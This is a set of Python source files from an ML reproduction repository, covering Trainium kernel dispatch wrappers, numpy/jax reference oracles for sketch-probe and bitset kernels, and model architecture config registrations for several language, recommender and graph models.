**Backend dispatch.**  The log-store hot path calls the dispatched entry
points (:func:`make_probe`, :func:`bitset_and_reduce`), selected by the
``REPRO_KERNEL_BACKEND`` env var: ``numpy`` (default — the fast CPU path on
this CoreSim container, bit-identical by the parity tests) or ``bass`` (the
device kernels; on real trn hardware this is the fast path, under CoreSim
it runs the interpreter and exists for parity/regression coverage).
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING, Any, Callable

import jax.numpy as jnp
import numpy as np

import concourse.mybir as mybir
import concourse.tile as tile
from concourse.bass2jax import bass_jit

from ..core.mphf import Mphf
from .bitset_intersect import bitset_intersect_kernel
from .candidate_score import candidate_score_kernel
from .posting_hash import posting_hash_kernel
from .sketch_probe import pack_probe_tables, sketch_probe_kernel

P = 128
ABSENT32 = np.uint32(0xFFFFFFFF)

KERNEL_BACKENDS = ("numpy", "bass")


if TYPE_CHECKING:
    from ..core.immutable_sketch import ImmutableSketch


def kernel_backend() -> str:  # repro: allow[R3] env-var dispatch only, no numeric kernel to oracle
    """Active kernel backend (``REPRO_KERNEL_BACKEND``, default ``numpy``)."""
    backend = os.environ.get("REPRO_KERNEL_BACKEND", "numpy").strip() or "numpy"
    if backend not in KERNEL_BACKENDS:
        raise ValueError(
            f"REPRO_KERNEL_BACKEND={backend!r} — valid backends: "
            f"{', '.join(KERNEL_BACKENDS)}"
        )
    return backend


def _pad_to(
    x: np.ndarray, mult: int, axis: int = 0, fill: int = 0
) -> tuple[np.ndarray, int]:
    n = x.shape[axis]
    pad = (-n) % mult
    if pad == 0:
        return x, n
    widths = [(0, 0)] * x.ndim
    widths[axis] = (0, pad)
    return np.pad(x, widths, constant_values=fill), n


def _mask_padded_lanes(out: np.ndarray, n: int, fill: "int | np.integer") -> np.ndarray:
    """Overwrite padded lanes with a sentinel, then return the real view.

    The kernels compute real-looking values for padded lanes (fill=0 is a
    valid fingerprint/posting), so the padding is neutralized here rather
    than trusting every caller to slice.
    """
    out = np.asarray(out).copy()
    if out.shape[0] > n:
        out[n:] = fill
    return out[:n]


# --- posting_hash ----------------------------------------------------------------


@bass_jit
def _posting_hash_jit(nc: Any, h: Any, p: Any) -> Any:
    out = nc.dram_tensor(list(h.shape), mybir.dt.uint32, kind="ExternalOutput")
    with tile.TileContext(nc) as tc:
        posting_hash_kernel(tc, out[:], h[:], p[:])
    return out


def posting_hash(h: np.ndarray, p: np.ndarray) -> np.ndarray:
    """Batched postings-hash fold: out = h ^ mix32(p)."""
    h = np.asarray(h, np.uint32)
    p = np.asarray(p, np.uint32)
    hp, n = _pad_to(h.ravel(), P)
    pp, _ = _pad_to(p.ravel(), P)
    out = _posting_hash_jit(hp, pp)
    # padded lanes fold fill=0 (a valid posting) into a real-looking hash
    return _mask_padded_lanes(out, n, 0).reshape(h.shape)


# --- sketch_probe ----------------------------------------------------------------


def make_sketch_probe(mphf: Mphf, sigs32: np.ndarray) -> Callable[[np.ndarray], np.ndarray]:
    """Build a probe fn bound to one sealed sketch's tables."""
    packed, metas, sigs = pack_probe_tables(mphf, sigs32)

    @bass_jit
    def _probe(nc: Any, fps: Any, packed_t: Any, sigs_t: Any) -> Any:
        out = nc.dram_tensor(list(fps.shape), mybir.dt.uint32, kind="ExternalOutput")
        with tile.TileContext(nc) as tc:
            sketch_probe_kernel(tc, out[:], fps[:], packed_t[:], sigs_t[:], metas)
        return out

    def probe(fps: np.ndarray) -> np.ndarray:
        fps = np.asarray(fps, np.uint32).ravel()
        fpad, n = _pad_to(fps, P)
        out = _probe(fpad, packed, sigs)
        # a padded lane probes fp=0 — a VALID key: if the sketch stores it,
        # the lane comes back with its real minimal index.  Mask to ABSENT32
        # so padding can never surface a phantom candidate.
        return _mask_padded_lanes(out, n, ABSENT32)

    return probe


# --- bitset_intersect -------------------------------------------------------------


@bass_jit
def _bitset_jit(nc: Any, bitsets: Any) -> Any:
    w = bitsets.shape[1]
    out_bits = nc.dram_tensor([w], mybir.dt.uint32, kind="ExternalOutput")
    out_count = nc.dram_tensor([1], mybir.dt.uint32, kind="ExternalOutput")
    with tile.TileContext(nc) as tc:
        bitset_intersect_kernel(tc, out_bits[:], out_count[:], bitsets[:])
    return out_bits, out_count


def bitset_intersect(bitsets: np.ndarray) -> tuple[np.ndarray, int]:
    """AND-reduce [T, W u32] posting bitsets; returns (bits, count).

    Word-axis padding uses 0 deliberately: a zero word stays zero through
    the AND fold and contributes 0 to the popcount, so the padded words are
    inert (padding with 1-bits would *add* their popcount to ``count`` —
    phantom candidates).  The word axis is data, not lanes, so zero-fill IS
    the mask; the row axis (T) is never padded — an all-ones identity row
    would be the only safe fill there and the kernel doesn't need one.
    """
    bs = np.asarray(bitsets, np.uint32)
    bs, w = _pad_to(bs, P, axis=1, fill=0)
    bits, count = _bitset_jit(bs)
    bits = np.asarray(bits)
    assert not bits[w:].any(), "zero-padded words must stay zero through AND"
    return bits[:w], int(jnp.asarray(count)[0])


# --- candidate_score ---------------------------------------------------------------


@bass_jit
def _score_jit(nc: Any, cands: Any, queries: Any) -> Any:
    c = cands.shape[0]
    q = queries.shape[1]
    out = nc.dram_tensor([c, q], mybir.dt.float32, kind="ExternalOutput")
    with tile.TileContext(nc) as tc:
        candidate_score_kernel(tc, out[:], cands[:], queries[:])
    return out


def candidate_score(cands: np.ndarray, queries: np.ndarray) -> Any:
    """[C, D] candidates · [Q, D] queries → [Q, C] scores (+host top-k).

    Vectors go to the device as bf16 (storage dtype; DMA transpose requires
    16-bit data) and accumulate in fp32 PSUM.
    """
    import ml_dtypes

    cands = np.asarray(cands).astype(ml_dtypes.bfloat16)
    queries = np.asarray(queries).astype(ml_dtypes.bfloat16)
    cp, c = _pad_to(cands, P, axis=0)
    cp, _ = _pad_to(cp, P, axis=1)
    qt = np.ascontiguousarray(queries.T)  # [D, Q]
    qt, _ = _pad_to(qt, P, axis=0)
    out = _score_jit(cp, qt)
    return jnp.asarray(out)[:c].T  # [Q, C]


# --- dispatched hot-path entry points (Query→Plan→Result wiring) -------------------


def bass_probe_supported(  # repro: allow[R3] boolean precondition check, oracle covered via make_probe parity
    reader: "ImmutableSketch",
) -> bool:
    """True if this sealed sketch satisfies the device probe's preconditions.

    ``pack_probe_tables`` asserts them; checked here non-fatally so dispatch
    can fall back to the numpy probe: full 32-bit signatures (§4.3 temporary
    layout — the kernel compares raw fingerprints), no MPHF fallback keys,
    n_keys < 2^24 (fp32-exact rank adds) and power-of-two level sizes.
    """
    if reader.sig_bits < 32 or reader.n_tokens >= (1 << 24):
        return False
    mphf = reader.mphf
    if mphf.fallback_keys.size:
        return False
    sizes = np.asarray(mphf.level_sizes, dtype=np.int64)
    return bool(((sizes & (sizes - 1)) == 0).all())


def make_probe(
    reader: "ImmutableSketch", *, backend: str | None = None
) -> Callable[[np.ndarray], np.ndarray]:
    """Probe function for one sealed sketch: ``fps → int64 rank or -1``.

    Dispatched by backend: ``numpy`` routes to the reader's vectorized host
    probe; ``bass`` runs :func:`make_sketch_probe` (MPHF walk + signature
    compare on device) and resolves minimal indices to CSF ranks host-side.
    Sketches outside the device kernel's preconditions (e.g. the monolithic
    store's 16-bit-signature sketch) fall back to the host probe — the probe
    contract is identical either way.
    """
    if backend is None:
        backend = kernel_backend()
    if backend != "bass" or not bass_probe_supported(reader):
        return reader.probe
    n_tokens = reader.n_tokens
    sigs32 = reader.arrays["sigs"].view(np.uint32)[:n_tokens]
    device_probe = make_sketch_probe(reader.mphf, sigs32)
    csf = reader.csf

    def probe(fps: np.ndarray) -> np.ndarray:
        fps = np.asarray(fps, dtype=np.uint32)
        idx = np.asarray(device_probe(fps))
        out = np.full(fps.shape, -1, dtype=np.int64)
        ok = idx != ABSENT32
        if ok.any():
            out[ok] = csf.get_batch(idx[ok].astype(np.int64))
        return out

    return probe


def bitset_and_reduce(bitsets: np.ndarray, *, backend: str | None = None) -> np.ndarray:
    """AND-fold ``[T, W]`` packed-uint64 posting bitsets → ``[W]`` uint64.

    The candidate-set intersection of the bitset planner.  ``bass`` reuses
    :func:`bitset_intersect` (same little-endian bit layout, two u32 device
    words per uint64 word); ``numpy`` is a single vectorized reduce.
    """
    bs = np.asarray(bitsets, dtype=np.uint64)
    if bs.ndim == 1:
        return bs.copy()
    if bs.shape[0] == 1:
        return bs[0].copy()
    if backend is None:
        backend = kernel_backend()
    if backend == "bass":
        bits32, _count = bitset_intersect(np.ascontiguousarray(bs).view(np.uint32))
        return np.ascontiguousarray(bits32).view(np.uint64)
    return np.bitwise_and.reduce(bs, axis=0)


def token_fingerprint(
    slab: np.ndarray,
    starts: np.ndarray,
    lengths: np.ndarray,
    *,
    backend: str | None = None,
) -> np.ndarray:
    """Fingerprint every byte span of ``slab`` in one call → uint32 array.

    The batched-ingest fingerprint op: crc32 of each ``(start, length)``
    span mixed through lowbias32, bit-identical to scalar
    ``core.hashing.fingerprint32`` on each span (oracle:
    :func:`repro.kernels.ref.token_fingerprint_ref`).

    Both backends run the vectorized host kernel
    (``core.hashing.fingerprint_spans``): like ``lowbias32`` itself (see the
    ``xorshift32`` docstring), the finalizer's u32 multiplies are not
    device-exact — Trainium routes mult through fp32 — and the ragged
    byte-gather per CRC column has no efficient device layout, so ``bass``
    transparently uses the host path the same way out-of-precondition
    sketches fall back in :func:`make_probe`.
    """
    if backend is None:
        backend = kernel_backend()
    from ..core.hashing import fingerprint_spans

    return fingerprint_spans(
        np.asarray(slab, dtype=np.uint8),
        np.asarray(starts, dtype=np.int64),
        np.asarray(lengths, dtype=np.int64),
    )
