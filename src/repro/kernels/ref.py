"""Pure-jnp/numpy oracles for every Bass kernel (the CoreSim test targets).

Each ``*_ref`` mirrors its kernel's EXACT semantics — including the
device-side 32-bit hash variants — so tests can assert bit-exact equality.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import jax
import jax.numpy as jnp
import numpy as np

from ..core.bitio import unpack_fixed
from ..core.hashing import POSTING_SEED, XS_TRIPLES, signature32, xorshift32
from ..core.mphf import Mphf

if TYPE_CHECKING:
    from ..core.immutable_sketch import ImmutableSketch

ABSENT32 = np.uint32(0xFFFFFFFF)


def posting_hash_ref(h: np.ndarray, p: np.ndarray) -> np.ndarray:
    """out[i] = h[i] XOR xorshift32(p[i], POSTING_SEED)."""
    return np.asarray(h, np.uint32) ^ xorshift32(p, POSTING_SEED, variant=0)


def posting_hash_ref_jnp(h: Any, p: Any) -> Any:
    h = jnp.asarray(h, jnp.uint32)
    x = jnp.asarray(p, jnp.uint32) ^ jnp.uint32(POSTING_SEED)
    a1, b1, c1 = XS_TRIPLES[0]
    a2, b2, c2 = XS_TRIPLES[1]
    for op, amt in (("l", a1), ("r", b1), ("l", c1), ("r", a2), ("l", b2), ("r", c2)):
        x = x ^ (x << amt if op == "l" else x >> amt)
    return h ^ x


def sketch_probe_ref(fps: np.ndarray, mphf: Mphf, sigs32: np.ndarray) -> np.ndarray:
    """Minimal index (u32) or 0xFFFFFFFF per fingerprint."""
    fps = np.asarray(fps, np.uint32)
    idx = mphf.eval_batch(fps)  # int64, -1 when no level hit
    out = np.full(fps.shape, ABSENT32, np.uint32)
    ok = idx >= 0
    ii = idx[ok].astype(np.int64)
    match = np.asarray(sigs32, np.uint32)[ii] == fps[ok]
    vals = np.where(match, ii.astype(np.uint32), ABSENT32)
    out[ok] = vals
    return out


def bitset_intersect_ref(bitsets: np.ndarray) -> tuple[np.ndarray, int]:
    """(intersection bitset [W] u32, total popcount)."""
    acc = np.bitwise_and.reduce(np.asarray(bitsets, np.uint32), axis=0)
    return acc, int(np.bitwise_count(acc).sum())


def bitset_intersect_ref_jnp(bitsets: Any) -> Any:
    acc = jnp.asarray(bitsets, jnp.uint32)
    acc = jax.lax.reduce(acc, jnp.uint32(0xFFFFFFFF), jax.lax.bitwise_and, (0,))
    count = jax.lax.population_count(acc).astype(jnp.uint32).sum()
    return acc, count


def candidate_score_ref(cands: np.ndarray, queries: np.ndarray) -> np.ndarray:
    """[C, D] candidates · [Q, D] queries → [Q, C] (fp32 accumulation)."""
    return (
        np.asarray(queries, np.float32) @ np.asarray(cands, np.float32).T
    ).astype(np.float32)


def candidate_score_ref_jnp(cands: Any, queries: Any) -> Any:
    return jnp.einsum(
        "qd,cd->qc",
        jnp.asarray(queries),
        jnp.asarray(cands),
        preferred_element_type=jnp.float32,
    )


def probe_ref(reader: "ImmutableSketch", fps: np.ndarray) -> np.ndarray:
    """Scalar-loop oracle for :func:`repro.kernels.ops.make_probe`.

    One MPHF lookup + signature compare + CSF rank at a time — no
    vectorization, no device kernel — so both the numpy and bass probes can
    be checked against the same independent implementation.
    """
    fps = np.asarray(fps, np.uint32).ravel()
    out = np.full(fps.shape, -1, np.int64)
    sigs = reader.arrays["sigs"]
    for i, fp in enumerate(fps):
        idx = int(reader.mphf.eval_batch(np.asarray([fp], np.uint32))[0])
        if idx < 0:
            continue
        if reader.sig_bits >= 32:
            stored = int(np.ascontiguousarray(sigs).view(np.uint32)[idx])
            want = int(fp)
        else:
            stored = int(unpack_fixed(sigs, np.asarray([idx], np.int64), reader.sig_bits)[0])
            want = int(signature32(np.asarray([fp], np.uint32), reader.sig_bits)[0])
        if stored != want:
            continue
        out[i] = int(reader.csf.get_batch(np.asarray([idx], np.int64))[0])
    return out


def bitset_and_reduce_ref(bitsets: np.ndarray) -> np.ndarray:
    """Row-at-a-time oracle for :func:`repro.kernels.ops.bitset_and_reduce`."""
    bs = np.asarray(bitsets, dtype=np.uint64)
    if bs.ndim == 1:
        return bs.copy()
    acc = bs[0].copy()
    for row in bs[1:]:
        acc &= row
    return acc


def token_fingerprint_ref(
    slab: np.ndarray, starts: np.ndarray, lengths: np.ndarray
) -> np.ndarray:
    """Span-at-a-time oracle for :func:`repro.kernels.ops.token_fingerprint`.

    One ``zlib.crc32`` + scalar lowbias32 per span — an implementation
    independent of the vectorized table-CRC column loop it checks.
    """
    import zlib

    from ..core.hashing import lowbias32

    slab_b = np.asarray(slab, dtype=np.uint8).tobytes()
    out = np.empty(len(starts), dtype=np.uint32)
    for i, (s, ln) in enumerate(zip(np.asarray(starts), np.asarray(lengths))):
        crc = zlib.crc32(slab_b[int(s) : int(s) + int(ln)]) & 0xFFFFFFFF
        out[i] = lowbias32(np.uint32(crc))
    return out
