"""Per-architecture configs (one module per assigned arch) + registry."""

from .base import ArchDef, ShapeCell, all_cells, get_arch, list_archs
from .copr_paper import PAPER_SKETCH_CONFIG, PAPER_STORE_KW

__all__ = [
    "ArchDef",
    "PAPER_SKETCH_CONFIG",
    "PAPER_STORE_KW",
    "ShapeCell",
    "all_cells",
    "get_arch",
    "list_archs",
]
