"""The paper's own system configuration (COPR/DynaWarp sketch, §4/§5).

* 4-byte token fingerprints, 16 signature bits, 32 MB mutable-sketch memory
  limit (the §5.1.1 experiment setting), 4096-posting bound with 16-entry
  short lists, ~512 lines per compressed batch.
"""

from ..core.sketch import SketchConfig

PAPER_SKETCH_CONFIG = SketchConfig(
    max_postings=4096,
    short_threshold=16,
    sig_bits=16,
    memory_limit_bytes=32 * 1024 * 1024,
)

PAPER_STORE_KW = dict(lines_per_batch=512, max_batches=4096)
