"""olmo-1b [arXiv:2402.00838; hf]: 16L d=2048 16H (kv=16) ff=8192
vocab=50304 — non-parametric LayerNorm."""

from ..models.transformer import LMConfig
from .base import ArchDef, lm_shapes, register


def make_config(cell=None) -> LMConfig:
    return LMConfig(
        name="olmo-1b",
        n_layers=16,
        d_model=2048,
        n_heads=16,
        n_kv_heads=16,
        d_ff=8192,
        vocab=50304,
        norm="nonparam_ln",
        tied_embeddings=True,
        act="silu",
        block_kv=1024,
        dense_attn_max_seq=1024,
    )


def make_smoke_config() -> LMConfig:
    return LMConfig(
        name="olmo-1b-smoke",
        n_layers=3,
        d_model=64,
        n_heads=4,
        n_kv_heads=4,
        d_ff=128,
        vocab=512,
        norm="nonparam_ln",
        tied_embeddings=True,
    )


register(
    ArchDef(
        arch_id="olmo-1b",
        family="lm",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=lm_shapes(num_microbatches_train=8),
        source="arXiv:2402.00838; hf",
    )
)
