"""two-tower-retrieval [RecSys'19 (YouTube)]: embed 256, towers 1024-512-256,
dot interaction, sampled softmax."""

from ..models.recsys import TwoTowerConfig
from .base import ArchDef, ShapeCell, register

SHAPES = (
    ShapeCell("train_batch", "train", {"batch": 65536}),
    ShapeCell("serve_p99", "serve", {"batch": 512}),
    ShapeCell("serve_bulk", "serve", {"batch": 262144}),
    ShapeCell(
        "retrieval_cand",
        "retrieval",
        {"batch": 1, "n_candidates": 1_000_000, "precomputed_candidates": True},
        # precomputed candidate matrix (offline item tower = production ANN
        # serving); towers replicated — §Perf hillclimb 3
        rules_override={"tower_mlp": None},
        notes="the canonical retrieval cell: 1 query × 10⁶ candidates, one matmul + top-k",
    ),
)


def make_config(cell=None) -> TwoTowerConfig:
    return TwoTowerConfig(
        name="two-tower-retrieval",
        n_users=10_000_000,
        n_items=10_000_000,
        embed_dim=256,
        tower_mlp=(1024, 512, 256),
        history_len=32,
        n_candidates=1_000_000,
    )


def make_smoke_config() -> TwoTowerConfig:
    return TwoTowerConfig(
        name="two-tower-smoke",
        n_users=100,
        n_items=200,
        embed_dim=16,
        tower_mlp=(32, 16),
        history_len=5,
        n_candidates=50,
    )


register(
    ArchDef(
        arch_id="two-tower-retrieval",
        family="recsys",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=SHAPES,
        source="RecSys'19 (YouTube); unverified",
    )
)
