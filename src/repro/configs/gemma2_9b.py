"""gemma2-9b [arXiv:2408.00118; hf]: 42L d=3584 16H (GQA kv=8) ff=14336
vocab=256000 — local(4096)+global alternating attention, logit softcaps."""

from ..models.transformer import LMConfig
from .base import ArchDef, lm_shapes, register


def make_config(cell=None) -> LMConfig:
    return LMConfig(
        name="gemma2-9b",
        n_layers=42,
        d_model=3584,
        n_heads=16,
        n_kv_heads=8,
        d_ff=14336,
        vocab=256000,
        head_dim=256,
        norm="rmsnorm",
        post_norms=True,
        tied_embeddings=True,
        embed_scale=True,
        attn_softcap=50.0,
        final_softcap=30.0,
        local_window=4096,
        layer_pattern="local_global",
        act="gelu",
        block_kv=1024,
        dense_attn_max_seq=1024,
    )


def make_smoke_config() -> LMConfig:
    return LMConfig(
        name="gemma2-9b-smoke",
        n_layers=4,
        d_model=64,
        n_heads=4,
        n_kv_heads=2,
        d_ff=128,
        vocab=512,
        head_dim=16,
        post_norms=True,
        tied_embeddings=True,
        embed_scale=True,
        attn_softcap=50.0,
        final_softcap=30.0,
        local_window=8,
        layer_pattern="local_global",
        act="gelu",
    )


register(
    ArchDef(
        arch_id="gemma2-9b",
        family="lm",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=lm_shapes(num_microbatches_train=8),
        source="arXiv:2408.00118; hf",
    )
)
