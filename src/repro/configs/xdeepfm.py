"""xdeepfm [arXiv:1803.05170]: 39 sparse fields, embed 10, CIN 200-200-200,
MLP 400-400."""

from ..models.recsys import XDeepFMConfig
from .base import ArchDef, ShapeCell, register

SHAPES = (
    ShapeCell("train_batch", "train", {"batch": 65536}),
    ShapeCell("serve_p99", "serve", {"batch": 512}),
    ShapeCell("serve_bulk", "serve", {"batch": 262144}),
    ShapeCell(
        "retrieval_cand",
        "retrieval",
        {"batch": 1, "n_candidates": 1_000_000},
        notes="full-model candidate scoring, candidate-sharded (CIN has no two-tower split)",
    ),
)


def make_config(cell=None) -> XDeepFMConfig:
    return XDeepFMConfig(
        name="xdeepfm",
        n_sparse=39,
        embed_dim=10,
        cin_layers=(200, 200, 200),
        mlp_layers=(400, 400),
        big_fields=8,
        big_vocab=4_000_000,
        small_vocab=10_000,
    )


def make_smoke_config() -> XDeepFMConfig:
    return XDeepFMConfig(
        name="xdeepfm-smoke",
        n_sparse=6,
        embed_dim=8,
        cin_layers=(16, 16),
        mlp_layers=(32,),
        big_fields=2,
        big_vocab=1000,
        small_vocab=100,
    )


register(
    ArchDef(
        arch_id="xdeepfm",
        family="recsys",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=SHAPES,
        source="arXiv:1803.05170; paper",
    )
)
