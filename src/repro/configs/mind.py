"""mind [arXiv:1904.08030]: embed 64, 4 interests, 3 capsule routing iters."""

from ..models.recsys import MINDConfig
from .base import ArchDef, ShapeCell, register

SHAPES = (
    ShapeCell("train_batch", "train", {"batch": 65536}),
    ShapeCell("serve_p99", "serve", {"batch": 512}),
    ShapeCell("serve_bulk", "serve", {"batch": 262144}),
    ShapeCell(
        "retrieval_cand",
        "retrieval",
        {"batch": 1, "n_candidates": 1_000_000},
        notes="max over interests of interest · candidate embedding",
    ),
)


def make_config(cell=None) -> MINDConfig:
    return MINDConfig(
        name="mind", n_items=1_000_000, embed_dim=64, n_interests=4, capsule_iters=3, seq_len=50
    )


def make_smoke_config() -> MINDConfig:
    return MINDConfig(
        name="mind-smoke", n_items=500, embed_dim=16, n_interests=4, capsule_iters=3, seq_len=10
    )


register(
    ArchDef(
        arch_id="mind",
        family="recsys",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=SHAPES,
        source="arXiv:1904.08030; unverified",
    )
)
