"""sasrec [arXiv:1808.09781]: embed 50, 2 blocks, 1 head, seq 50."""

from ..models.recsys import SASRecConfig
from .base import ArchDef, ShapeCell, register

SHAPES = (
    ShapeCell("train_batch", "train", {"batch": 65536}),
    ShapeCell("serve_p99", "serve", {"batch": 512}),
    ShapeCell("serve_bulk", "serve", {"batch": 262144}),
    ShapeCell(
        "retrieval_cand",
        "retrieval",
        {"batch": 1, "n_candidates": 1_000_000},
        notes="sequence repr · candidate item embeddings (batched dot)",
    ),
)


def make_config(cell=None) -> SASRecConfig:
    return SASRecConfig(
        name="sasrec", n_items=1_000_000, embed_dim=50, n_blocks=2, n_heads=1, seq_len=50
    )


def make_smoke_config() -> SASRecConfig:
    return SASRecConfig(
        name="sasrec-smoke", n_items=500, embed_dim=16, n_blocks=2, n_heads=1, seq_len=10
    )


register(
    ArchDef(
        arch_id="sasrec",
        family="recsys",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=SHAPES,
        source="arXiv:1808.09781; paper",
    )
)
