"""meshgraphnet [arXiv:2010.03409]: 15 layers, d_hidden=128, sum aggregator,
2-layer MLPs.  Input/output dims adapt per shape cell (the four assigned
graph workloads have different feature widths)."""

from ..models.gnn import MeshGraphNetConfig
from .base import ArchDef, ShapeCell, register

SHAPES = (
    ShapeCell(
        "full_graph_sm",
        "train",
        {"n_nodes": 2708, "n_edges": 10556, "d_feat": 1433, "d_out": 7},
        notes="cora-scale full-batch",
    ),
    ShapeCell(
        "minibatch_lg",
        "train",
        # 1024 seeds × fanout (15, 10): 1024 + 15,360 + 153,600 nodes padded
        {
            "n_nodes": 169984,
            "n_edges": 168960,
            "d_feat": 602,
            "d_out": 41,
            "batch_nodes": 1024,
            "fanout0": 15,
            "fanout1": 10,
            "full_nodes": 232965,
            "full_edges": 114615892,
        },
        notes="reddit-scale sampled training (real neighbor sampler in data/graph_sampler.py)",
    ),
    ShapeCell(
        "ogb_products",
        "train",
        {"n_nodes": 2449029, "n_edges": 61859140, "d_feat": 100, "d_out": 47},
        notes="full-batch-large; edges sharded over the whole mesh",
    ),
    ShapeCell(
        "molecule",
        "train",
        # 128 graphs × 30 nodes / 64 edges as one disjoint union
        {"n_nodes": 3840, "n_edges": 8192, "d_feat": 16, "d_out": 1, "n_graphs": 128},
        notes="batched-small-graphs (disjoint union)",
    ),
)


def make_config(cell: ShapeCell | None = None) -> MeshGraphNetConfig:
    d_feat = cell.dims["d_feat"] if cell else 1433
    d_out = cell.dims["d_out"] if cell else 7
    return MeshGraphNetConfig(
        name="meshgraphnet",
        n_layers=15,
        d_hidden=128,
        mlp_layers=2,
        aggregator="sum",
        d_node_in=d_feat,
        d_edge_in=4,
        d_out=d_out,
    )


def make_smoke_config() -> MeshGraphNetConfig:
    return MeshGraphNetConfig(
        name="meshgraphnet-smoke",
        n_layers=3,
        d_hidden=16,
        mlp_layers=2,
        d_node_in=8,
        d_edge_in=4,
        d_out=2,
    )


register(
    ArchDef(
        arch_id="meshgraphnet",
        family="gnn",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=SHAPES,
        source="arXiv:2010.03409; unverified",
        notes="COPR applies only to partition-metadata indexing, not message passing (DESIGN.md §Arch-applicability)",
    )
)
