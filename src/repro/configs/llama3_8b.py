"""llama3-8b [arXiv:2407.21783; unverified]: 32L d=4096 32H (GQA kv=8)
ff=14336 vocab=128256."""

from ..models.transformer import LMConfig
from .base import ArchDef, lm_shapes, register


def make_config(cell=None) -> LMConfig:
    return LMConfig(
        name="llama3-8b",
        n_layers=32,
        d_model=4096,
        n_heads=32,
        n_kv_heads=8,
        d_ff=14336,
        vocab=128256,
        tied_embeddings=False,
        rope_theta=500000.0,
        act="silu",
        block_kv=1024,
        dense_attn_max_seq=1024,
    )


def make_smoke_config() -> LMConfig:
    return LMConfig(
        name="llama3-8b-smoke",
        n_layers=3,
        d_model=64,
        n_heads=8,
        n_kv_heads=2,
        d_ff=128,
        vocab=512,
        tied_embeddings=False,
        rope_theta=500000.0,
    )


register(
    ArchDef(
        arch_id="llama3-8b",
        family="lm",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=lm_shapes(num_microbatches_train=8),
        source="arXiv:2407.21783; unverified",
    )
)
