"""phi3.5-moe-42b-a6.6b [hf:microsoft/Phi-3.5-MoE-instruct]: 32L d=4096 32H
(GQA kv=8) ff=6400 vocab=32064, 16 experts top-2."""

from ..models.sharding import ShardingRules
from ..models.transformer import LMConfig
from .base import ArchDef, lm_shapes, register


def make_config(cell=None) -> LMConfig:
    return LMConfig(
        name="phi3.5-moe-42b-a6.6b",
        n_layers=32,
        d_model=4096,
        n_heads=32,
        n_kv_heads=8,
        d_ff=6400,
        vocab=32064,
        tied_embeddings=False,
        n_experts=16,
        top_k=2,
        capacity_factor=1.25,
        moe_impl="a2a",
        act="silu",
        block_kv=1024,
        dense_attn_max_seq=1024,
    )


def make_smoke_config() -> LMConfig:
    return LMConfig(
        name="phi3.5-moe-smoke",
        n_layers=3,
        d_model=64,
        n_heads=8,
        n_kv_heads=2,
        d_ff=96,
        vocab=512,
        tied_embeddings=False,
        n_experts=4,
        top_k=2,
    )


register(
    ArchDef(
        arch_id="phi3.5-moe-42b-a6.6b",
        family="lm",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=lm_shapes(num_microbatches_train=8),
        # experts over 'data' (the a2a exchange axis; 16 % 8 == 0), d_ff over
        # (tensor, pipe) — without this the scatter-dispatch expert compute
        # replicated over the whole data axis (8× FLOP inflation, §Perf)
        rules=ShardingRules(rules={"experts": ("data",), "expert_mlp": ("tensor", "pipe")}),
        source="hf:microsoft/Phi-3.5-MoE-instruct; hf",
    )
)
