"""arctic-480b [hf:Snowflake/snowflake-arctic-base]: 35L d=7168 56H (GQA kv=8)
ff=4864 vocab=32000, 128 experts top-2 + dense residual FFN.

480B-class memory plan (single pod = 128 chips):
* expert weights sharded 8-way over 'data' on the expert dim × 16-way over
  ('tensor','pipe') on d_ff → 128-way total (~7.5 GB/chip bf16); the expert
  axis doubles as the all-to-all dispatch axis (moe_impl="a2a"),
* optimizer states in bf16 (fp32 would not fit; recorded in DESIGN.md),
* train_4k runs 16 microbatches of gradient accumulation.
"""

from ..models.sharding import ShardingRules
from ..models.transformer import LMConfig
from .base import ArchDef, lm_shapes, register


def make_config(cell=None) -> LMConfig:
    return LMConfig(
        name="arctic-480b",
        n_layers=35,
        d_model=7168,
        n_heads=56,
        n_kv_heads=8,
        d_ff=4864,
        vocab=32000,
        head_dim=128,
        tied_embeddings=False,
        n_experts=128,
        top_k=2,
        capacity_factor=1.25,
        dense_residual_ff=7168,
        moe_impl="a2a",
        act="silu",
        block_kv=1024,
        dense_attn_max_seq=1024,
    )


def make_smoke_config() -> LMConfig:
    return LMConfig(
        name="arctic-smoke",
        n_layers=2,
        d_model=64,
        n_heads=8,
        n_kv_heads=2,
        d_ff=96,
        vocab=512,
        head_dim=8,
        tied_embeddings=False,
        n_experts=8,
        top_k=2,
        dense_residual_ff=64,
    )


register(
    ArchDef(
        arch_id="arctic-480b",
        family="lm",
        make_config=make_config,
        make_smoke_config=make_smoke_config,
        shapes=lm_shapes(num_microbatches_train=16),
        rules=ShardingRules(rules={"experts": ("data",), "expert_mlp": ("tensor", "pipe")}),
        opt_state_dtype="bfloat16",
        source="hf:Snowflake/snowflake-arctic-base; hf",
    )
)
