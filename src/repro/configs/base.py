"""Architecture registry: every assigned arch is a selectable config.

An :class:`ArchDef` couples a model-config factory with its assigned shape
cells, sharding rules, and execution knobs.  ``launch/cells.py`` turns an
(arch × shape × mesh) triple into a lowerable step function + input specs.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Any, Callable

from ..models.sharding import ShardingRules


@dataclass(frozen=True)
class ShapeCell:
    name: str
    kind: str  # train | prefill | decode | serve | retrieval
    dims: dict[str, int]
    rules_override: dict[str, tuple[str, ...] | None] = field(default_factory=dict)
    num_microbatches: int = 1
    notes: str = ""


@dataclass(frozen=True)
class ArchDef:
    arch_id: str
    family: str  # lm | gnn | recsys
    make_config: Callable[..., Any]  # (cell: ShapeCell | None) -> model config
    make_smoke_config: Callable[[], Any]
    shapes: tuple[ShapeCell, ...]
    rules: ShardingRules = field(default_factory=ShardingRules)
    opt_state_dtype: str = "float32"
    source: str = ""
    notes: str = ""

    def shape(self, name: str) -> ShapeCell:
        for s in self.shapes:
            if s.name == name:
                return s
        raise KeyError(f"{self.arch_id} has no shape {name}: {[s.name for s in self.shapes]}")


_REGISTRY: dict[str, ArchDef] = {}


